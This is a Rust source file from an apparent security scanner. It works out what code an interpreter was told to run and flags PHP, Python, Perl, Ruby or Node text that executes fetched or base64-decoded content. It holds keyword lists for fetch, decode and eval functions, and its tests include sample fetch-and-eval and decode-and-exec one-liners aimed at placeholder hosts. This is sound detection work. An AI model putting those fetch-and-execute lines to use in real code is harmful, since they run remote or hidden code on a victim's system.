//! What an interpreter was told to run, and whether a text of its language fetches or decodes what it runs.

use crate::process::word::{base, contains_any_case, family_name, is_interpreter, is_loader, is_shell, same_program};

/// What an interpreter was told to run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Code {
    /// A script, absolute when the working directory is known.
    Script(Vec<u8>),
    /// A text in the arguments (`sh -c`, `php -r`, `perl -e`).
    Inline(Vec<u8>),
    /// Whatever comes in by standard input.
    Stdin,
    /// A module by name (`python -m`), or a server of the interpreter itself (`php -S`).
    Module,
    /// Not an interpreter, or its arguments were replaced by a title.
    Unknown,
}

/// Reads the arguments of an interpreter: `exe` is what runs, `argv` begins with the name that it shows.
pub(crate) fn code_of(exe: &[u8], argv: &[Vec<u8>], cwd: &[u8]) -> Code {
    if !is_interpreter(exe) {
        return Code::Unknown;
    }
    let Some((title, rest)) = argv.split_first() else { return Code::Unknown };
    if is_loader(exe) {
        return rest.iter().find(|arg| !arg.starts_with(b"-")).map_or(Code::Unknown, |file| script(cwd, file));
    }
    let shell = is_shell(exe);
    let language = family_name(exe);
    let is_php = crate::process::word::is_php(exe);
    let is_perl = language == b"perl";
    let mut args = rest.iter();
    while let Some(arg) = args.next() {
        if arg.is_empty() {
            continue;
        }
        let Some(letters) = arg.strip_prefix(b"-").filter(|letters| !letters.is_empty()) else {
            return if arg == b"-" { Code::Stdin } else { script(cwd, arg) };
        };
        let next = |args: &mut std::slice::Iter<'_, Vec<u8>>| args.next().cloned().unwrap_or_default();
        match letters {
            // `php -- --flag` reads its code from standard input; what follows is the code's own.
            b"-" if is_php => return Code::Stdin,
            b"-" => return args.next().map_or(Code::Stdin, |file| script(cwd, file)),
            _ if letters[0] == b'-' => match letters {
                b"-eval" | b"-print" | b"-run" => return Code::Inline(next(&mut args)),
                b"-file" if is_php => return script(cwd, &next(&mut args)),
                b"-server" if is_php => return Code::Module,
                b"-require" | b"-import" | b"-loader" | b"-rcfile" | b"-init-file" => drop(args.next()),
                _ => {}
            },
            b"jar" => return script(cwd, &next(&mut args)),
            _ if shell && letters.contains(&b'c') => return Code::Inline(next(&mut args)),
            _ if shell && letters.contains(&b's') => return Code::Stdin,
            b"o" if shell => drop(args.next()),
            _ if shell => {}
            b"f" | b"F" if is_php => return script(cwd, &next(&mut args)),
            b"r" | b"B" | b"R" | b"E" if is_php => return Code::Inline(next(&mut args)),
            b"S" if is_php => return Code::Module,
            b"c" | b"d" | b"t" | b"z" if is_php => drop(args.next()),
            _ if is_php => {}
            b"m" => return Code::Module,
            b"c" if language.starts_with(b"py") => return Code::Inline(next(&mut args)),
            b"W" | b"X" if language.starts_with(b"py") => drop(args.next()),
            b"I" | b"C" if is_perl || language == b"ruby" => drop(args.next()),
            b"r" if language.starts_with(b"node") => drop(args.next()),
            // -e, -pe, -lane …: the text follows; -M and -i take the rest of the same word.
            _ if matches!(letters.last(), Some(b'e' | b'E')) && !matches!(letters[0], b'M' | b'm' | b'i') => {
                return Code::Inline(next(&mut args));
            }
            b"p" if language.starts_with(b"node") => return Code::Inline(next(&mut args)),
            _ => {}
        }
    }
    // A login shell reads a terminal; a replaced title says nothing about the code.
    let named = same_program(base(title), base(exe));
    if named && !title.starts_with(b"-") { Code::Stdin } else { Code::Unknown }
}

fn script(cwd: &[u8], file: &[u8]) -> Code {
    if file.is_empty() {
        return Code::Unknown;
    }
    if file.starts_with(b"/") || cwd.is_empty() {
        return Code::Script(file.to_vec());
    }
    let cwd = cwd.strip_suffix(b" (deleted)").unwrap_or(cwd);
    let file = file.strip_prefix(b"./").unwrap_or(file);
    Code::Script([cwd.strip_suffix(b"/").unwrap_or(cwd), b"/", file].concat())
}

const FETCH: &[&str] = &[
    "file_get_contents",
    "curl_exec",
    "fopen(",
    "urlopen",
    "urlretrieve",
    "requests.get",
    "requests.post",
    "urllib",
    "http.client",
    "LWP::",
    "get(",
    "get \"http",
    "get 'http",
    "HTTP::Tiny",
    "IO::Socket",
    "open-uri",
    "Net::HTTP",
    "http.get",
    "https.get",
    "fetch(",
    "fsockopen",
    "stream_socket_client",
    "socket.socket",
    "URI.open",
];
const DECODE: &[&str] = &[
    "base64_decode",
    "b64decode",
    "decode_base64",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "str_rot13",
    "convert_uu",
    "hex2bin",
    "fromhex",
    "unhexlify",
    "zlib.decompress",
    "Buffer.from(",
    "atob(",
    "Base64.decode",
    "pack(",
    "unpack(",
];
/// Text becomes code of the language.
const EVALUATE: &[&str] = &["eval", "assert", "create_function", "new Function", "exec", "include", "require"];
/// Text becomes a command line.
const COMMAND: &[&str] =
    &["system", "passthru", "shell_exec", "popen", "proc_open", "os.system", "subprocess", "execSync", "spawn"];

/// How much of a text is looked at, bytes; what hides its code begins with how it is taken out.
const TEXT_MAX: usize = 8 << 10;

/// Where code that runs came from.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Taint {
    /// From elsewhere, by a downloader or a request.
    pub fetched: bool,
    /// Out of a text that hides it.
    pub decoded: bool,
}

impl Taint {
    /// Came from somewhere at all.
    pub fn any(self) -> bool {
        self.fetched || self.decoded
    }

    /// Both origins together.
    pub fn or(self, other: Taint) -> Taint {
        Taint { fetched: self.fetched || other.fetched, decoded: self.decoded || other.decoded }
    }
}

/// Whether a text of PHP, Python, Perl, Ruby or Node runs what it fetches or decodes.
///
/// A call that runs text counts when a fetch or decoding stands inside of it, or when a name inside of it was given its
/// value by one. `curl_exec`, `$db->exec(…)` and `require('https')` run nothing.
pub(crate) fn runs_fetched(text: &[u8], input: Taint) -> Taint {
    let text = &text[..text.len().min(TEXT_MAX)];
    let has = |part: &[u8], words: &[&str]| words.iter().any(|word| contains_any_case(part, word.as_bytes()));
    let kind = |part: &[u8]| Taint {
        fetched: has(part, FETCH) && (has(text, &["://", "socket", "base64"]) || has(part, &["$", "("])),
        decoded: has(part, DECODE),
    };
    let stdin = |part: &[u8]| has(part, &["stdin", "php://input"]);
    let mut found = Taint::default();
    for (word, evaluates) in EVALUATE.iter().map(|w| (w, true)).chain(COMMAND.iter().map(|w| (w, false))) {
        for inside in calls(text, word.as_bytes(), evaluates) {
            let loads = matches!(*word, "include" | "require");
            // What is loaded stands in the brackets; `require('https').get('https://…')` loads a part of Node.
            let inside = if loads { inside.split(|b| *b == b')').next().unwrap_or_default() } else { inside };
            if loads && !has(inside, &["://", "data:"]) && !inside.starts_with(b"$") {
                continue;
            }
            found = found.or(kind(inside));
            found.fetched |= loads && has(inside, &["http://", "https://", "ftp://"]);
            if input.any() && stdin(inside) {
                found = found.or(input);
            }
            for name in names(inside) {
                for value in assigned(text, name) {
                    found = found.or(kind(value));
                    if input.any() && stdin(value) {
                        found = found.or(input);
                    }
                }
            }
        }
    }
    found
}

/// Files that a text writes under a name that stands in it, and where their content comes from; at most eight.
pub(crate) fn writes(text: &[u8]) -> Vec<(Vec<u8>, Taint)> {
    const WRITE: &[&str] =
        &["file_put_contents", "copy(", "rename(", "fwrite", "fputs", ".write", "shutil", "writeFile"];
    let text = &text[..text.len().min(TEXT_MAX)];
    let has = |words: &[&str]| words.iter().any(|word| contains_any_case(text, word.as_bytes()));
    if !has(WRITE) {
        return Vec::new();
    }
    let taint = Taint { fetched: has(&["http://", "https://", "ftp://"]), decoded: has(DECODE) };
    let quoted = text.split(|b| matches!(b, b'"' | b'\'')).skip(1).step_by(2);
    let files = quoted.filter(|part| part.contains(&b'.') && !part.contains(&b':') && part.len() < 4096);
    files.take(8).map(|file| (file.to_vec(), taint)).collect()
}

/// Addresses that stand in a text, at most eight.
pub(crate) fn urls(text: &[u8]) -> Vec<Vec<u8>> {
    let text = &text[..text.len().min(TEXT_MAX)];
    let ends = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b')' | b';' | b'<' | b'>');
    let words = text.split(ends).filter(|word| crate::process::word::contains(word, b"://"));
    words.take(8).map(<[u8]>::to_vec).collect()
}

/// What stands behind each call of `word`: up to the end of its statement, at most 4 KiB and 8 calls.
fn calls<'a>(text: &'a [u8], word: &'a [u8], evaluates: bool) -> impl Iterator<Item = &'a [u8]> {
    let starts = text.windows(word.len()).enumerate().filter(move |(_, window)| window.eq_ignore_ascii_case(word));
    let calls = starts.filter_map(move |(at, _)| {
        let before = text[..at].last().copied().unwrap_or(b' ');
        let method = before == b'.' || before == b'>' || before == b':';
        let part_of_word = before.is_ascii_alphanumeric() || before == b'_' || before == b'$';
        let rest = &text[at + word.len()..];
        let called = rest.first().is_some_and(|b| matches!(b, b'(' | b' ' | b'_' | b'.' | b'S' | b'F' | b'"' | b'\''));
        if part_of_word || !called || (evaluates && method) {
            return None;
        }
        let rest = rest.strip_prefix(b"_once").unwrap_or(rest);
        let rest = rest.trim_ascii_start().strip_prefix(b"(").unwrap_or(rest).trim_ascii_start();
        let rest = &rest[..rest.len().min(4096)];
        Some(&rest[..rest.iter().position(|b| matches!(b, b';' | b'\n')).unwrap_or(rest.len())])
    });
    calls.take(8)
}

/// Names in an expression, at most four.
fn names(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let word = |b: &u8| !(b.is_ascii_alphanumeric() || *b == b'_');
    text.split(word).filter(|name| !name.is_empty() && !name[0].is_ascii_digit()).take(4)
}

/// What this name was given by `=` or as the argument of a call that saves under it, at most eight times.
fn assigned<'a>(text: &'a [u8], name: &'a [u8]) -> impl Iterator<Item = &'a [u8]> {
    let starts = text.windows(name.len()).enumerate().filter(move |(_, window)| *window == name);
    let values = starts.filter_map(move |(at, _)| {
        let before = text[..at].last().copied().unwrap_or(b' ');
        let rest = text[at + name.len()..].trim_ascii_start().strip_prefix(b"=")?;
        let whole = !(before.is_ascii_alphanumeric() || before == b'_' || rest.starts_with(b"="));
        let rest = &rest[..rest.len().min(4096)];
        whole.then(|| &rest[..rest.iter().position(|b| matches!(b, b';' | b'\n')).unwrap_or(rest.len())])
    });
    values.take(8)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_that_runs_what_it_fetched_is_told_from_one_that_only_fetches() {
        for text in [
            "eval(file_get_contents('http://203.0.113.5/a'));",
            "$c=file_get_contents('http://x.example/a');eval('?>'.$c);",
            "include 'http://x.example/a.txt';",
            "eval(base64_decode('cGhwaW5mbygpOw=='));",
            "$f=base64_decode('eA=='); system($f);",
            "import urllib.request as u;exec(u.urlopen('http://x.example/a').read())",
            "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
            "use LWP::Simple; eval get(\"http://x.example/a\")",
            "eval decode_base64(\"cHJpbnQgMQ==\")",
            "import os,urllib.request\nc=urllib.request.urlopen('http://x.example').read()\nos.system(c)",
        ] {
            assert!(runs_fetched(text.as_bytes(), Taint::default()).any(), "{text}");
        }
        for text in [
            "$c=curl_init('https://aoi.example/x'); curl_exec($c);",
            "const https=require('https'); https.get('https://aoi.example/x');",
            "include 'wp-load.php'; echo file_get_contents('https://aoi.example/x');",
            "$db->exec('DELETE FROM t'); file_get_contents('https://api.example/x');",
            "echo base64_decode('eA==');",
            "import json,sys; print(json.load(sys.stdin)['a'])",
        ] {
            assert!(!runs_fetched(text.as_bytes(), Taint::default()).any(), "{text}");
        }
    }

    #[test]
    fn long_hostile_code_is_read_in_bounded_time() {
        let text = b"eval(a=".repeat(9000);
        runs_fetched(&text, Taint::default());
    }
}
